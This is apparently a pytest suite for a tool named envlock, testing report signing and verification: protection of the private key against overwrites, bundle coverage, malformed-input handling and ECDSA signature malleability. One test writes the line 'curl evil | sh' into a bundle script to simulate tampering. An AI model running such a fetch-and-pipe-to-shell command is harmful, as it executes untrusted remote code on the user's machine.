"""Issue #11, the report side: verification says what it checked, outputs never
overwrite a key or an input, sign accepts only what verify accepts, and no
input of sign, verify or show gives a traceback."""

from __future__ import annotations

import base64
import hashlib
import json
import os
from pathlib import Path
from typing import Any

import pytest
from report_support import cli, decode, make_bundle, make_keys, smoke_result

from envlock.report import dsse, keys, sign_result

INTOTO = "application/vnd.in-toto+json"
IMAGE = "sha256:" + hashlib.sha256(b"hardening image").hexdigest()
P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


@pytest.fixture
def keypair(tmp_path: Path) -> tuple[Path, Path]:
    return make_keys(tmp_path)


def write_result(tmp_path: Path, doc: Any, name: str = "result.json") -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(doc))
    return path


def signed_envelope(priv: Path, payload: bytes) -> bytes:
    env = dsse.sign(INTOTO, payload, keys.load_private(priv)).to_dict()
    return json.dumps(env).encode()


# -- report sign -o never overwrites the key or an input --------------------


@pytest.mark.parametrize("how", ["plain", "dotdot", "symlink", "hardlink"])
def test_sign_output_onto_the_private_key_is_refused(
    tmp_path: Path,
    keypair: tuple[Path, Path],
    capsys: pytest.CaptureFixture[str],
    how: str,
) -> None:
    priv, _ = keypair
    key_before = priv.read_bytes()
    result = write_result(tmp_path, smoke_result())
    if how == "plain":
        out = priv
    elif how == "dotdot":
        (tmp_path / "sub").mkdir()
        out = tmp_path / "sub" / ".." / priv.name
    elif how == "symlink":
        out = tmp_path / "link.json"
        out.symlink_to(priv)
    else:
        out = tmp_path / "hard.json"
        os.link(priv, out)
    code, _, err = cli(
        capsys, "report", "sign", str(result), "--key", str(priv), "--image", IMAGE, "-o", str(out)
    )
    assert code == 2, err
    assert err.startswith(f"envlock: error: -o {out} is the private key --key {priv}")
    assert priv.read_bytes() == key_before
    assert "Traceback" not in err


def test_sign_output_onto_an_input_is_refused(
    tmp_path: Path, keypair: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    priv, pub = keypair
    bundle = make_bundle(tmp_path)
    result = write_result(tmp_path, smoke_result())
    cases = [
        (result, f"is the result {result}"),
        (bundle / "pylock.toml", f"is the lock file {bundle / 'pylock.toml'}"),
        (bundle / "Dockerfile", f"is the lock file {bundle / 'Dockerfile'}"),
        (pub, f"is the public key {pub}"),
    ]
    for out, clash in cases:
        before = out.read_bytes()
        argv = ["report", "sign", str(result), "--key", str(priv), "--lock", str(bundle)]
        code, _, err = cli(capsys, *argv, "-o", str(out))
        assert code == 2, (out, err)
        assert err.startswith(f"envlock: error: -o {out} {clash}"), err
        assert out.read_bytes() == before
    # a new file inside the bundle folder is not an input: allowed
    code, _, err = cli(
        capsys,
        *["report", "sign", str(result), "--key", str(priv), "--lock", str(bundle)],
        *["-o", str(bundle / "env.intoto.json")],
    )
    assert code == 0, err


def test_keygen_never_writes_one_key_file_over_the_other(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    priv, pub = make_keys(tmp_path, "team")
    pub.unlink()
    pub.symlink_to(priv)
    before = priv.read_bytes()
    code, _, err = cli(capsys, "keygen", "-o", str(tmp_path / "team"), "--force")
    assert code == 2, err
    assert "is the same file as" in err
    assert priv.read_bytes() == before


# -- verify says what it checked ---------------------------------------------


def test_verify_lock_against_a_report_that_never_recorded_the_lock_fails(
    tmp_path: Path, keypair: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    priv, pub = keypair
    bundle = make_bundle(tmp_path)
    result = smoke_result()
    result["expected"].pop("lock_digest", None)
    path = write_result(tmp_path, result)
    report = tmp_path / "r.json"
    code, _, err = cli(
        capsys, "report", "sign", str(path), "--key", str(priv), "--image", IMAGE, "-o", str(report)
    )
    assert code == 0, err
    assert decode(json.loads(report.read_text()))["predicate"]["configuration"] == []
    code, out, err = cli(capsys, "verify", str(report), "--key", str(pub), "--lock", str(bundle))
    assert code == 1, out
    assert "matches the report" not in out
    assert "pylock.toml" in out and "NOT COVERED" in out
    assert "the report does not cover pylock.toml" in err
    code, out, err = cli(
        capsys, "verify", str(report), "--key", str(pub), "--lock", str(bundle), "--json"
    )
    doc = json.loads(out)
    assert code == 1 and doc["verified"] is False
    by_name = {c["name"]: c for c in doc["checked"]}
    assert set(by_name) == {"pylock.toml", "requirements.txt", "Dockerfile"}
    assert {c["status"] for c in doc["checked"]} == {"not covered"}
    assert doc["uncovered"] == ["pylock.toml", "requirements.txt", "Dockerfile"]


def test_a_report_covers_every_file_of_its_bundle(
    tmp_path: Path, keypair: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    priv, pub = keypair
    bundle = make_bundle(tmp_path)
    for name in ("bootstrap.sh", "expect.json", "runtime.json", ".dockerignore", "README.md"):
        (bundle / name).write_text(f"{name}\n")
    env = sign_result(smoke_result(), priv, lock_dir=bundle, image_id=IMAGE)
    names = [c["name"] for c in decode(env)["predicate"]["configuration"]]
    assert sorted(names) == sorted(p.name for p in bundle.iterdir())
    report = tmp_path / "r.json"
    report.write_text(json.dumps(env))
    code, out, err = cli(
        capsys, "verify", str(report), "--key", str(pub), "--lock", str(bundle), "--image", IMAGE
    )
    assert code == 0, err
    for name in names:
        assert f"{name}: matches the report" in out
    assert f"image      {IMAGE}: matches the report" in out
    # an edit to any bundle file, even bootstrap.sh, is drift now
    (bundle / "bootstrap.sh").write_text("curl evil | sh\n")
    code, out, err = cli(capsys, "verify", str(report), "--key", str(pub), "--lock", str(bundle))
    assert code == 1
    assert "configuration[bootstrap.sh].sha256 drifted" in err
    # a bundle file the report does not cover fails verification
    (bundle / "bootstrap.sh").write_text("bootstrap.sh\n")
    (bundle / "envlock_runtime.py").write_text("# added later\n")
    code, out, err = cli(capsys, "verify", str(report), "--key", str(pub), "--lock", str(bundle))
    assert code == 1
    assert "the report does not cover envlock_runtime.py" in err


def test_verify_without_lock_or_image_says_they_were_not_checked(
    tmp_path: Path, keypair: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    priv, pub = keypair
    report = tmp_path / "r.json"
    report.write_text(json.dumps(sign_result(smoke_result(), priv, lock_dir=None, image_id=IMAGE)))
    code, out, _ = cli(capsys, "verify", str(report), "--key", str(pub))
    assert code == 0
    assert "not checked (no --lock given)" in out and "not checked (no --image given)" in out


# -- sign accepts only what verify accepts ------------------------------------


BAD_RESULTS: list[tuple[str, bytes, str]] = [
    ("nan", b'{"schema": "envlock.smoke/v1", "duration_s": NaN}', "NaN is not a JSON number"),
    ("overflow", b'{"schema": "envlock.smoke/v1", "duration_s": 1e999}', "not a finite number"),
    ("surrogate", b'{"schema": "envlock.smoke/v1", "host": "\\ud800"}', "lone surrogate"),
    ("hugeint", b'{"schema": "envlock.smoke/v1", "n": ' + b"9" * 5000 + b"}", "integer"),
    ("deep", b'{"schema": "envlock.smoke/v1", "x": ' + b"[" * 70 + b"]" * 70 + b"}", "nested"),
    ("notutf8", b'{"schema": "envlock.smoke/v1", "host": "\xff"}', "not UTF-8"),
]


@pytest.mark.parametrize(("name", "data", "message"), BAD_RESULTS, ids=[b[0] for b in BAD_RESULTS])
def test_sign_refuses_results_that_verify_would_reject(
    tmp_path: Path,
    keypair: tuple[Path, Path],
    capsys: pytest.CaptureFixture[str],
    name: str,
    data: bytes,
    message: str,
) -> None:
    priv, _ = keypair
    result = tmp_path / "result.json"
    result.write_bytes(data)
    report = tmp_path / "r.json"
    code, _, err = cli(
        capsys,
        "report",
        "sign",
        str(result),
        "--key",
        str(priv),
        "--image",
        IMAGE,
        "-o",
        str(report),
    )
    assert code == 2, err
    assert err.startswith(f"envlock: error: {result}: ") and message in err, err
    assert "Traceback" not in err and not report.exists()


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("duration_s", float("inf")),
        ("host", {"name": "\ud800"}),
        ("benchmark", {"x": 10**400}),
    ],
)
def test_sign_in_process_never_writes_an_envelope_verify_rejects(
    tmp_path: Path, keypair: tuple[Path, Path], field: str, value: Any
) -> None:
    """The library entry point too: a result dict verify would reject is refused."""
    from envlock.errors import DataError

    priv, _ = keypair
    result = smoke_result()
    result[field] = value
    with pytest.raises(DataError):
        sign_result(result, priv, lock_dir=None, image_id=IMAGE)


# -- no tracebacks: sign, verify, show ----------------------------------------


def _statement(**predicate_changes: Any) -> dict[str, Any]:
    from envlock.report.statement import build_statement

    doc = build_statement(smoke_result(), image_id=IMAGE)
    doc["predicate"].update(predicate_changes)
    return doc


def test_wrong_field_types_in_a_signed_statement_fail_cleanly(
    tmp_path: Path, keypair: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    priv, pub = keypair
    cases: list[dict[str, Any]] = [
        {"passedTests": 7},
        {"failedTests": [1, 2]},
        {"warnedTests": {"a": 1}},
        {"configuration": [{"name": 3, "digest": "x"}]},
        {"configuration": [{"name": "pylock.toml", "digest": {"sha256": 5}}]},
        {"envlock": {"smoke": [], "measurements": 3}},
        {"envlock": "x"},
        {"url": 12},
    ]
    for change in cases:
        report = tmp_path / "r.json"
        report.write_bytes(signed_envelope(priv, json.dumps(_statement(**change)).encode()))
        for argv in (
            ["verify", str(report), "--key", str(pub)],
            ["verify", str(report), "--key", str(pub), "--json"],
        ):
            code, out, err = cli(capsys, *argv)
            assert code == 1, (change, err)
            assert "NOT VERIFIED" in err and "Traceback" not in err
        code, out, err = cli(capsys, "report", "show", str(report))
        assert code == 0 and "problems:" in out, (change, err)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'{"payload": "e30", "payloadType": "x", "signatures": [{"sig": "' + b"9" * 5000, "JSON"),
        (b'{"payloadType": "\\udc00", "payload": "e30", "signatures": []}', "lone surrogate"),
        (b'{"payloadType": "x", "payload": 1' + b"0" * 5000 + b', "signatures": []}', "integer"),
        (b"\xfe\xff\x00{", "not UTF-8"),
        (b'{"payloadType": [], "payload": "e30", "signatures": [{"sig": "AA"}]}', "not a string"),
        (b'{"payloadType": "x", "payload": "e30", "signatures": {"sig": 1}}', "not a list"),
    ],
)
def test_malformed_envelopes_exit_2_in_verify_and_show(
    tmp_path: Path,
    keypair: tuple[Path, Path],
    capsys: pytest.CaptureFixture[str],
    content: bytes,
    message: str,
) -> None:
    _, pub = keypair
    report = tmp_path / "bad.intoto.json"
    report.write_bytes(content)
    for argv in (
        ["verify", str(report), "--key", str(pub)],
        ["verify", str(report), "--key", str(pub), "--json"],
        ["report", "show", str(report)],
        ["report", "show", str(report), "--json"],
    ):
        code, _, err = cli(capsys, *argv)
        assert code == 2, (argv, err)
        assert err.startswith(f"envlock: error: {report}: ") and message in err, err


@pytest.mark.parametrize(
    "payload",
    [
        b'{"_type": "\\ud800"}',
        b'{"n": ' + b"1" * 5000 + b"}",
        b"\xc3\x28",
        b'{"a": 1e999}',
    ],
)
def test_a_signed_payload_with_bad_json_fails_verification_cleanly(
    tmp_path: Path, keypair: tuple[Path, Path], capsys: pytest.CaptureFixture[str], payload: bytes
) -> None:
    priv, pub = keypair
    report = tmp_path / "r.json"
    report.write_bytes(signed_envelope(priv, payload))
    code, _, err = cli(capsys, "verify", str(report), "--key", str(pub))
    assert code == 1 and "the signed payload" in err and "Traceback" not in err
    code, _, err = cli(capsys, "report", "show", str(report))
    assert code == 2 and err.startswith(f"envlock: error: {report}: the payload"), err


@pytest.mark.parametrize(
    "content",
    [
        b"\xff\xfe-----BEGIN PUBLIC KEY-----\n",
        b"-----BEGIN PUBLIC KEY-----\n" + b"A" * 100000 + b"\n-----END PUBLIC KEY-----\n",
        b"-----BEGIN PUBLIC KEY-----\n\xed\xa0\x80\n-----END PUBLIC KEY-----\n",
        b"-----BEGIN PRIVATE KEY-----\nMAA=\n-----END PRIVATE KEY-----\n",
    ],
)
def test_bad_key_files_exit_2(
    tmp_path: Path, keypair: tuple[Path, Path], capsys: pytest.CaptureFixture[str], content: bytes
) -> None:
    priv, _ = keypair
    report = tmp_path / "r.json"
    report.write_text(json.dumps(sign_result(smoke_result(), priv, lock_dir=None, image_id=IMAGE)))
    key = tmp_path / "bad.pem"
    key.write_bytes(content)
    key.chmod(0o600)
    code, _, err = cli(capsys, "verify", str(report), "--key", str(key))
    assert code == 2 and str(key) in err and "Traceback" not in err, err
    result = write_result(tmp_path, smoke_result())
    code, _, err = cli(
        capsys,
        *["report", "sign", str(result), "--key", str(key), "--image", IMAGE],
        *["-o", str(tmp_path / "out.json")],
    )
    assert code == 2 and str(key) in err and "Traceback" not in err, err


# -- low-S signatures, malleated copies count once ----------------------------


def _s_of(sig: bytes) -> tuple[int, int]:
    from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

    r, s = decode_dss_signature(sig)
    return r, s


def test_ecdsa_signatures_are_low_s(keypair: tuple[Path, Path]) -> None:
    priv, _ = keypair
    key = keys.load_private(priv)
    for i in range(64):  # high-S would come up about half the time
        _, s = _s_of(keys.sign(key, b"message %d" % i))
        assert s <= P256_N // 2


def test_high_s_is_accepted_and_a_malleated_copy_counts_once(
    tmp_path: Path, keypair: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

    priv, pub = keypair
    env = sign_result(smoke_result(), priv, lock_dir=None, image_id=IMAGE)
    sig = base64.b64decode(env["signatures"][0]["sig"])
    r, s = _s_of(sig)
    high = encode_dss_signature(r, P256_N - s)
    env["signatures"] = [{"keyid": "", "sig": base64.b64encode(high).decode()}]
    report = tmp_path / "high.json"
    report.write_text(json.dumps(env))
    code, out, err = cli(capsys, "verify", str(report), "--key", str(pub), "--json")
    assert code == 0, err
    assert json.loads(out)["valid_signatures"] == 1
    # the low-S original plus its malleated copy: still one signature
    env["signatures"].insert(0, {"keyid": "", "sig": base64.b64encode(sig).decode()})
    report.write_text(json.dumps(env))
    code, out, err = cli(capsys, "verify", str(report), "--key", str(pub), "--json")
    assert code == 0, err
    assert json.loads(out)["valid_signatures"] == 1
    # a second, independent signature by the same key does count
    payload = base64.b64decode(env["payload"])
    again = keys.sign(keys.load_private(priv), dsse.pae(INTOTO, payload))
    env["signatures"].append({"keyid": "", "sig": base64.b64encode(again).decode()})
    report.write_text(json.dumps(env))
    code, out, err = cli(capsys, "verify", str(report), "--key", str(pub), "--json")
    assert code == 0, err
    assert json.loads(out)["valid_signatures"] == 2


def test_bundle_files_are_all_known_to_the_report() -> None:
    """Every file envlock lock writes is one a report records (BUNDLE_FILES)."""
    from test_render import make_lock

    from envlock.bundle.folder import bundle_files
    from envlock.render import RenderOptions
    from envlock.report.statement import BUNDLE_FILES

    names = set(bundle_files(make_lock(), RenderOptions()))
    assert {"pylock.toml", "requirements.txt", "Dockerfile", "bootstrap.sh"} <= names
    assert names <= set(BUNDLE_FILES), names - set(BUNDLE_FILES)


def test_smoke_sign_output_onto_the_key_is_refused_before_running(
    tmp_path: Path, keypair: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    priv, _ = keypair
    before = priv.read_bytes()
    link = tmp_path / "sub" / ".." / priv.name
    (tmp_path / "sub").mkdir()
    code, out, err = cli(capsys, "smoke", "--host", "--sign", str(priv), "-o", str(link))
    assert code == 2, err
    assert err.startswith(f"envlock: error: -o {link} is the private key --key {priv}")
    assert out == "" and priv.read_bytes() == before
